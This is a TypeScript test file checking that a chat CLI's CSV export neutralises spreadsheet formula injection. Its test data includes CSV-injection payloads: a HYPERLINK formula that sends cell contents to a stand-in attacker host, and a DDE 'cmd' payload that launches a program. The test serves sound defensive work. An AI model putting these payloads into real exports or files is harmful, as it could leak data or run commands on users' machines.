/**
 * Issue 15 #12: `peerchat export --format csv` must not hand a spreadsheet a formula. Fields
 * starting with = + - @ tab or CR are neutralised as OWASP "CSV Injection" says: prefixed with a
 * single quote and the field quoted.
 */
import { randomBytes } from 'node:crypto';
import t from 'tap';
import { csvField } from '../../src/store/export.js';
import { newId, Store } from '../../src/store/store.js';
import { runCli, sandbox } from '../cli/run-cli.js';

const fresh = sandbox(t);
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

/** Minimal RFC 4180 reader: rows of unquoted field values. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}

t.test('csvField neutralises formula triggers and quotes the field', async (t) => {
  t.equal(csvField('=1+1'), `"'=1+1"`);
  t.equal(csvField('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`);
  for (const c of DANGEROUS) t.equal(csvField(`${c}x`)[0], '"', `${JSON.stringify(c)} is quoted`);
  t.equal(csvField('plain'), 'plain', 'ordinary fields are unchanged');
  t.equal(csvField('a=b'), 'a=b', 'only a leading trigger counts');
  t.equal(csvField(1700000000000), '1700000000000', 'numbers stay numbers');
});

t.test('a remote name and text cannot become formulas in `peerchat export --format csv`', async (t) => {
  const dir = fresh();
  const store = Store.open({ dataDir: dir });
  const payloads = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
  ];
  try {
    for (const text of payloads) {
      await store.recordIncoming({
        id: newId(),
        from: '127.0.0.1:5001',
        name: '=evil()',
        text,
        protocol: 'native',
        verified: true,
        key: randomBytes(32).toString('hex'),
        fingerprint: null,
        ts: Date.now(),
        direction: 'in',
      });
    }
  } finally {
    await store.close();
  }
  const r = await runCli(['export', '--format', 'csv'], { cwd: fresh(), dataDir: dir });
  t.equal(r.code, 0, r.stderr);
  const rows = parseCsv(r.stdout);
  const header = rows[0] ?? [];
  const nameCol = header.indexOf('name');
  const textCol = header.indexOf('text');
  t.equal(rows.length, payloads.length + 1);
  for (const row of rows.slice(1)) {
    for (const value of row) {
      t.notOk(DANGEROUS.includes(value[0] ?? ''), `no cell starts with a trigger: ${JSON.stringify(value)}`);
    }
    t.equal(row[nameCol], "'=evil()", 'the name keeps its content behind the quote');
    t.ok(payloads.includes((row[textCol] ?? '').slice(1)), 'the text keeps its content behind the quote');
  }
});
